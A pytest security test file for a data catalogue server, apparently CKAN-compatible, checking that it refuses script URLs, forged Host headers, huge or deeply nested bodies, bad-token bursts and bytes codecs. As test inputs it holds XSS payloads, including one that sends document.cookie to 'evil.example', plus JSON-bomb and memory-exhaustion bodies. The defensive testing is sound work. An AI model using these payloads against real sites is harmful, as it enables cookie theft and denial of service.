"""Attacks on the HTTP layer of a running ``mosu up`` (issue 10, items 6, 7, 12, 14 and 15):
script URLs, security headers, oversized and deeply nested bodies, a forged Host header,
bursts of bad API tokens, and bytes codecs as a resource encoding."""
from __future__ import annotations

import http.client
import io
import json
import time
import uuid
from pathlib import Path

import ckanapi
import pytest
import requests
from sqlalchemy import select

from catalog.db.models import IngestJob, Package, Resource
from tests.conftest import kill_group, wait_for_ingest

TOKEN_FAILURE_LIMIT = 5
UPLOAD_LIMIT = 2 * 1024 * 1024
XSS = "javascript:alert(document.domain)//"


@pytest.fixture(scope="module")
def limited_mosu(mosu_factory):
    """``mosu up`` with the default body limit (1 MiB), a 2 MiB upload limit and a low bad-token
    limit, so each can be crossed cheaply."""
    return mosu_factory(max_upload_bytes=UPLOAD_LIMIT, token_failure_limit=TOKEN_FAILURE_LIMIT)


@pytest.fixture(scope="module")
def admin(limited_mosu):
    return limited_mosu.ckan(limited_mosu.token("http-admin", sysadmin=True))


@pytest.fixture(scope="module")
def org(admin):
    return admin.action.organization_create(name="http-org")


def _name() -> str:
    return "ds-" + uuid.uuid4().hex[:10]


def _post(limited_mosu, action: str, data: bytes | object, token: str | None = None, **headers) -> requests.Response:
    headers = {"Content-Type": "application/json", **({"Authorization": token} if token else {}), **headers}
    body = data if isinstance(data, (bytes, str)) or hasattr(data, "__next__") else json.dumps(data)
    return requests.post(f"{limited_mosu.url}/api/3/action/{action}", data=body, headers=headers, timeout=120)


def _rss(pid: int) -> dict[str, int]:
    out = {}
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        key, _, value = line.partition(":")
        if key in ("VmRSS", "VmHWM"):
            out[key] = int(value.split()[0]) * 1024
    return out


# -- item 6: only http(s) and relative URLs; security headers ---------------------------------

def test_javascript_urls_are_refused_in_every_url_field(limited_mosu, admin, org):
    with pytest.raises(ckanapi.ValidationError) as err:
        admin.action.package_create(name=_name(), owner_org=org["id"], url=XSS)
    assert "url" in err.value.error_dict
    with pytest.raises(ckanapi.ValidationError) as err:
        admin.action.package_create(name=_name(), owner_org=org["id"],
                                    resources=[{"url": "javascript:fetch('//evil.example/'+document.cookie)"}])
    assert "url" in err.value.error_dict
    pkg = admin.action.package_create(name=_name(), owner_org=org["id"], url="https://example.org/source")
    for bad in (" JavaScript:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
                "vbscript:msgbox(1)"):
        with pytest.raises(ckanapi.ValidationError) as err:
            admin.action.resource_create(package_id=pkg["id"], url=bad)
        assert err.value.error_dict["url"] == ["Must be an http:// or https:// URL (or a relative one)"]
    res = admin.action.resource_create(package_id=pkg["id"], url="https://example.org/data.csv")
    with pytest.raises(ckanapi.ValidationError):
        admin.action.resource_patch(id=res["id"], url=XSS)
    with pytest.raises(ckanapi.ValidationError):
        admin.action.package_patch(id=pkg["id"], url=XSS)
    with pytest.raises(ckanapi.ValidationError) as err:
        admin.action.organization_create(name="xss-org", image_url=XSS)
    assert "image_url" in err.value.error_dict
    with pytest.raises(ckanapi.ValidationError):
        admin.action.group_create(name="xss-group", image_url=XSS)
    with pytest.raises(ckanapi.ValidationError):
        admin.action.user_update(id="http-admin", image_url=XSS)
    assert admin.action.package_show(id=pkg["id"])["url"] == "https://example.org/source"
    assert admin.action.resource_patch(id=res["id"], url="files/data.csv")["url"] == "files/data.csv"


def test_a_stored_script_url_is_never_rendered_as_a_link(limited_mosu, admin, org):
    """Defence in depth: a URL stored before URL fields were checked is shown, not linked."""
    pkg = admin.action.package_create(name=_name(), owner_org=org["id"],
                                      resources=[{"url": "https://example.org/a.csv", "name": "link"}])
    platform = limited_mosu.inspect()
    with platform.write.begin() as s:
        s.get(Package, pkg["id"]).url = XSS
        s.get(Resource, pkg["resources"][0]["id"]).url = "JAVASCRIPT:alert(2)"
    platform.close()
    html = requests.get(f"{limited_mosu.url}/dataset/{pkg['name']}", timeout=10).text
    assert XSS in html and "JAVASCRIPT:alert(2)" in html, "the values are still shown"
    assert 'href="javascript' not in html.lower()


SECURITY_HEADERS = ("Content-Security-Policy", "X-Content-Type-Options", "Referrer-Policy")


def test_every_response_carries_the_security_headers(limited_mosu, admin, org):
    pkg = admin.action.package_create(name=_name(), owner_org=org["id"])
    answers = {
        "home page": requests.get(limited_mosu.url + "/", timeout=10),
        "dataset page": requests.get(f"{limited_mosu.url}/dataset/{pkg['name']}", timeout=10),
        "missing dataset page": requests.get(f"{limited_mosu.url}/dataset/nope-{uuid.uuid4().hex}", timeout=10),
        "unknown route": requests.get(limited_mosu.url + "/no/such/page", timeout=10),
        "static file": requests.get(limited_mosu.url + "/static/status.js", timeout=10),
        "action": requests.get(limited_mosu.url + "/api/3/action/status_show", timeout=10),
        "action error": requests.get(limited_mosu.url + "/api/3/action/package_show?id=nope", timeout=10),
        "dump error": requests.get(limited_mosu.url + "/datastore/dump/nope", timeout=10),
        "too large": _post(limited_mosu, "status_show", b"{" + b" " * (2 << 20) + b"}"),
    }
    for label, resp in answers.items():
        csp = resp.headers.get("Content-Security-Policy", "")
        assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp, label
        assert "script-src 'self'" in csp and "unsafe-inline" not in csp, label
        assert resp.headers.get("X-Content-Type-Options") == "nosniff", label
        assert resp.headers.get("Referrer-Policy") in ("strict-origin-when-cross-origin", "no-referrer"), label


# -- item 7: small bodies except uploads, bounded nesting ------------------------------------

def test_a_large_json_body_is_refused_unread(limited_mosu):
    """The issue's 30 MB body to status_show (799 MB of RSS before): 413, and memory stays flat."""
    body = b'{"a": [' + b",".join([b"{}"] * (30 * 1024 * 1024 // 3)) + b"]}"
    before = _rss(limited_mosu.proc.pid)
    resp = _post(limited_mosu, "status_show", body)
    assert resp.status_code == 413
    error = resp.json()["error"]
    assert error["__type"] == "Validation Error" and "exceeds the limit of 1048576 bytes" in error["message"]
    chunked = _post(limited_mosu, "status_show", iter([body[i:i + (1 << 20)] for i in range(0, len(body), 1 << 20)]))
    assert chunked.status_code == 413, "a chunked body (no Content-Length) is held to the same limit"
    after = _rss(limited_mosu.proc.pid)
    assert after["VmHWM"] - before["VmHWM"] < 64 * 1024 * 1024, (before, after)
    form = requests.post(limited_mosu.url + "/api/3/action/status_show", data={"a": "x" * (2 << 20)}, timeout=60)
    assert form.status_code == 413
    dump = requests.post(limited_mosu.url + "/datastore/dump_sql", data=body[:(2 << 20)],
                         headers={"Content-Type": "application/json"}, timeout=60)
    assert dump.status_code == 413 and dump.json()["error"]["__type"] == "Validation Error"


def test_uploads_keep_the_upload_limit(limited_mosu, admin, org):
    pkg = admin.action.package_create(name=_name(), owner_org=org["id"])
    csv = b"n,square\n" + b"".join(b"%d,%d\n" % (i, i * i) for i in range(120_000))
    assert 1024 * 1024 < len(csv) < UPLOAD_LIMIT
    res = admin.action.resource_create(package_id=pkg["id"], upload=("squares.csv", io.BytesIO(csv)))
    assert wait_for_ingest(admin, res["id"])["row_count"] == 120_000
    resp = _post(limited_mosu, "resource_patch", {"id": res["id"], "description": "x" * (2 << 20)}, admin.apikey)
    assert resp.status_code == 413, "a JSON body is not an upload, whatever the action"


def test_deeply_nested_json_is_a_bad_request(limited_mosu, admin, org):
    deep = b"[" * 200_000 + b"]" * 200_000
    for action in ("status_show", "package_search"):
        resp = _post(limited_mosu, action, b'{"q": ' + deep + b"}")
        assert resp.status_code == 400, resp.text[:300]
        error = resp.json()["error"]
        assert error["__type"] == "Bad request - JSON Error" and "nested deeper than 64 levels" in error["message"]
    assert _post(limited_mosu, "status_show", deep).status_code == 400
    dump = requests.post(limited_mosu.url + "/datastore/dump_sql", data=b'{"sql": ' + deep + b"}",
                         headers={"Content-Type": "application/json"}, timeout=30)
    assert dump.status_code == 400 and dump.json()["error"]["__type"] == "Bad request - JSON Error"
    pkg = admin.action.package_create(name=_name(), owner_org=org["id"])
    nested = {"x": 1}
    for _ in range(60):
        nested = {"x": nested}
    res = admin.action.resource_create(package_id=pkg["id"], url="https://example.org/a", layout=nested)
    assert res["layout"] == nested, "ordinary nesting still works"


# -- item 12: absolute URLs from the site URL, never from Host --------------------------------

def test_a_forged_host_header_never_reaches_a_link(limited_mosu, admin, org):
    pkg = admin.action.package_create(name=_name(), owner_org=org["id"])
    res = admin.action.resource_create(package_id=pkg["id"], upload=("a.csv", io.BytesIO(b"a,b\n1,2\n")))
    wait_for_ingest(admin, res["id"])
    evil = {"Host": "evil.example", "X-Forwarded-Host": "evil.example"}
    status = requests.get(limited_mosu.url + "/api/3/action/status_show", headers=evil, timeout=10).json()
    assert status["result"]["site_url"] == limited_mosu.url, "MOSU_SITE_URL defaults to the listen URL"
    assert status["help"] == f"{limited_mosu.url}/api/3/action/help_show?name=status_show"
    answers = [requests.get(f"{limited_mosu.url}/api/3/action/{action}", params=params, headers=evil, timeout=10)
               for action, params in (("resource_show", {"id": res["id"]}), ("package_show", {"id": pkg["id"]}),
                                      ("package_search", {"q": pkg["name"]}), ("package_activity_list",
                                                                              {"id": pkg["id"]}))]
    answers.append(requests.get(f"{limited_mosu.url}/dataset/{pkg['name']}", headers=evil, timeout=10))
    answers.append(requests.get(f"{limited_mosu.url}/api/3/action/nope", headers=evil, timeout=10))
    for resp in answers:
        assert "evil.example" not in resp.text, resp.url
    shown = requests.get(f"{limited_mosu.url}/api/3/action/resource_show", params={"id": res["id"]}, headers=evil,
                         timeout=10).json()["result"]
    assert shown["url"] == f"{limited_mosu.url}/dataset/{pkg['id']}/resource/{res['id']}/download"
    found = requests.get(f"{limited_mosu.url}/api/3/action/package_search", params={"q": pkg["name"]},
                         headers=evil, timeout=10).json()["result"]["results"][0]
    assert found["resources"][0]["url"] == shown["url"]
    download = requests.get(shown["url"], headers=evil, allow_redirects=False, timeout=10)
    assert download.status_code == 302 and "evil.example" not in download.headers["Location"]


# -- item 14: token use recorded; bursts of bad tokens slowed ---------------------------------

def test_token_use_is_recorded_at_most_once_a_minute(limited_mosu, admin):
    token = limited_mosu.token("token-user")
    bob = limited_mosu.ckan(token)
    assert all(t["last_access"] is None for t in admin.action.api_token_list(user="token-user"))
    bob.action.package_list()
    [listed] = [t for t in admin.action.api_token_list(user="token-user") if t["last_access"]]
    bob.action.package_list()
    again = [t for t in admin.action.api_token_list(user="token-user") if t["id"] == listed["id"]][0]
    assert again["last_access"] == listed["last_access"], "a second use within a minute is not a write"


def _from(address: str, limited_mosu, token: str) -> tuple[int, dict, dict]:
    """One request from the loopback ``address`` (127.0.0.0/8 all reaches the server)."""
    host, port = limited_mosu.url.removeprefix("http://").split(":")
    conn = http.client.HTTPConnection(host, int(port), timeout=10, source_address=(address, 0))
    try:
        conn.request("GET", "/api/3/action/package_list", headers={"Authorization": token})
        resp = conn.getresponse()
        return resp.status, dict(resp.getheaders()), json.loads(resp.read())
    finally:
        conn.close()


def test_a_burst_of_bad_tokens_gets_429(limited_mosu, admin):
    good = limited_mosu.token("burst-victim")
    attacker = f"127.0.{uuid.uuid4().int % 200 + 20}.{uuid.uuid4().int % 200 + 20}"
    for i in range(TOKEN_FAILURE_LIMIT):
        status, _, body = _from(attacker, limited_mosu, f"mosu_forged-{i}")
        assert status == 403 and body["error"]["__type"] == "Authorization Error"
    status, headers, body = _from(attacker, limited_mosu, "mosu_forged-next")
    assert status == 429
    assert body["error"]["__type"] == "Rate Limit Error" and "Too many requests" in body["error"]["message"]
    assert 1 <= int(headers["Retry-After"]) <= 60
    status, _, _ = _from(attacker, limited_mosu, good)
    assert status == 429, "past the limit the address's tokens are not even looked up"
    status, _, body = _from("127.0.0.1", limited_mosu, good)
    assert status == 200 and body["success"], "other addresses are not affected"
    status, _, _ = _from(attacker, limited_mosu, "")
    assert status == 200, "anonymous requests from the address still work"


# -- item 15: text encodings only -------------------------------------------------------------

def test_a_bytes_codec_is_refused_as_a_resource_encoding(limited_mosu, admin, org):
    pkg = admin.action.package_create(name=_name(), owner_org=org["id"])
    for bad in ("base64_codec", "zlib", "rot13", "no-such-codec", 42):
        with pytest.raises(ckanapi.ValidationError) as err:
            admin.action.resource_create(package_id=pkg["id"], url="https://example.org/a.csv", encoding=bad)
        assert "encoding" in err.value.error_dict and "Unknown text encoding" in err.value.error_dict["encoding"][0]
    res = admin.action.resource_create(package_id=pkg["id"], url="https://example.org/a.csv", encoding="GBK")
    assert res["encoding"] == "GBK"
    with pytest.raises(ckanapi.ValidationError):
        admin.action.resource_patch(id=res["id"], encoding="base64_codec")
    with pytest.raises(ckanapi.ValidationError):
        admin.action.resource_create(package_id=pkg["id"], encoding="hex",
                                     upload=("a.csv", io.BytesIO(b"a,b\n1,2\n")))


def test_a_stored_bytes_codec_fails_the_ingest_once(limited_mosu, admin, org):
    """An encoding stored before the check fails the version at once, with no retries."""
    pkg = admin.action.package_create(name=_name(), owner_org=org["id"])
    res = admin.action.resource_create(package_id=pkg["id"], url="https://example.org/a.csv")
    platform = limited_mosu.inspect()
    with platform.write.begin() as s:
        s.get(Resource, res["id"]).extras = {"encoding": "base64_codec"}
    started = time.monotonic()
    # resource_patch keeps the extras it is not given: the stored encoding goes to the worker.
    admin.action.resource_patch(id=res["id"], upload=("a.csv", io.BytesIO(b"a,b\n1,2\n")))
    failed = wait_for_ingest(admin, res["id"], timeout=30)
    assert failed["ingest_status"] == "failed" and "Unknown text encoding 'base64_codec'" in failed["ingest_error"]
    assert time.monotonic() - started < 25, "no retries with back-off"
    with platform.read() as s:
        job = s.scalars(select(IngestJob).where(IngestJob.resource_id == res["id"])).one()
        assert job.state == "failed" and job.attempts == 1
    platform.close()


def test_utf16_chosen_for_a_file_without_a_byte_order_mark_fails_once(limited_mosu, admin, org):
    """Python refuses such a file with a UnicodeError that is not a UnicodeDecodeError: it was taken
    for a transient failure and retried five times over ~30 s, ending in "internal error"."""
    pkg = admin.action.package_create(name=_name(), owner_org=org["id"])
    res = admin.action.resource_create(package_id=pkg["id"], encoding="utf_16",
                                       upload=("a.csv", io.BytesIO(b"a,b\n1,2\n")))
    failed = wait_for_ingest(admin, res["id"], timeout=60)
    assert failed["ingest_status"] == "failed"
    assert "cannot be read as utf-16" in failed["ingest_error"] and "BOM" in failed["ingest_error"]
    with limited_mosu.inspect().read() as s:
        job = s.scalars(select(IngestJob).where(IngestJob.resource_id == res["id"])).one()
        assert job.state == "failed" and job.attempts == 1


def test_without_a_site_url_links_are_relative_whatever_the_host(platform):
    """An app built without MOSU_SITE_URL (tests, embedding) never trusts Host: links stay relative."""
    from catalog.access.context import Actor, Context
    from catalog.actions import call
    from catalog.cli.app import create_app

    site_ctx = Context(platform=platform, actor=Actor.site())
    call(site_ctx, "organization_create", {"name": "rel-org"})
    pkg = call(site_ctx, "package_create", {"name": "rel-ds", "owner_org": "rel-org"})
    client = create_app(platform=platform).test_client()
    body = client.get("/api/3/action/package_show?id=rel-ds", headers={"Host": "evil.example"}).get_json()
    assert body["help"] == "/api/3/action/help_show?name=package_show"
    assert body["result"]["id"] == pkg["id"] and "evil.example" not in json.dumps(body)
    page = client.get("/dataset/rel-ds", headers={"Host": "evil.example"})
    assert page.status_code == 200 and b"evil.example" not in page.data


def test_sigterm_stops_mosu_while_clients_keep_connecting(mosu_factory):
    """SIGTERM landing inside a waitress connection handler was swallowed (4 of 4 tries)."""
    import signal
    import socket
    import threading

    running = mosu_factory("--workers", "0")
    port = int(running.url.rsplit(":", 1)[1])
    stop = threading.Event()
    sent = [0, 0]  # requests sent by each client

    def hammer(n: int) -> None:
        while not stop.is_set():
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=2) as conn:
                    conn.sendall(b"GET /static/status.js HTTP/1.1\r\nHost: x\r\n\r\n")
                    sent[n] += 1
            except OSError:
                time.sleep(0.01)

    clients = [threading.Thread(target=hammer, args=(n,), daemon=True) for n in range(2)]
    for c in clients:
        c.start()
    try:
        deadline = time.monotonic() + 30
        while min(sent) < 50 and time.monotonic() < deadline:  # both clients keep the server busy
            time.sleep(0.01)
        assert min(sent) >= 50, sent
        running.proc.send_signal(signal.SIGTERM)
        running.proc.wait(30)
    finally:
        stop.set()
        if running.proc.poll() is None:
            kill_group(running.proc)
    assert "Mosu stopped." in running.log.read_text()


# -- a review's variant of item 7: the fields of an upload form --------------------------------

@pytest.fixture(scope="module")
def big_upload_site(mosu_factory):
    """``mosu up`` whose upload limit (200 MB) leaves room for a form of many large fields."""
    return mosu_factory(max_upload_bytes=200 * 1024 * 1024)


def _upload_form(fields: int, field_bytes: int) -> bytes:
    value = ("[" + ",".join(["{}"] * (field_bytes // 3)) + "]").encode()  # JSON: ~28x its size once decoded
    parts = [b'--B\r\nContent-Disposition: form-data; name="f%d"\r\n\r\n%s\r\n' % (i, value) for i in range(fields)]
    file = b'--B\r\nContent-Disposition: form-data; name="upload"; filename="a.csv"\r\n\r\na\n1\n\r\n--B--\r\n'
    return b"".join(parts) + file


def test_the_fields_of_an_upload_form_are_bounded_and_read_only_for_a_signed_in_caller(big_upload_site):
    """60 JSON fields of 1 MB beside a file took the web process from 690 MB to 1.9 GB before the
    anonymous caller got its 403: the fields were parsed and decoded first."""
    site = big_upload_site
    url, headers = site.url + "/api/3/action/resource_create", {"Content-Type": "multipart/form-data; boundary=B"}
    before = _rss(site.proc.pid)
    anonymous = requests.post(url, data=_upload_form(60, 1_000_000), headers=headers, timeout=120)
    assert anonymous.status_code == 403, anonymous.text[:300]
    assert "logged in to upload" in anonymous.json()["error"]["message"]
    token = site.token("form-user")
    too_many = requests.post(url, data=_upload_form(60, 1000), headers={**headers, "Authorization": token},
                             timeout=120)
    assert too_many.status_code == 413, too_many.text[:300]
    too_big = requests.post(url, data=_upload_form(20, 1_000_000), headers={**headers, "Authorization": token},
                            timeout=120)
    assert too_big.status_code == 413 and "form's fields exceed" in too_big.json()["error"]["message"]
    after = _rss(site.proc.pid)
    assert after["VmHWM"] - before["VmHWM"] < 100 * 1024 * 1024, (before, after)
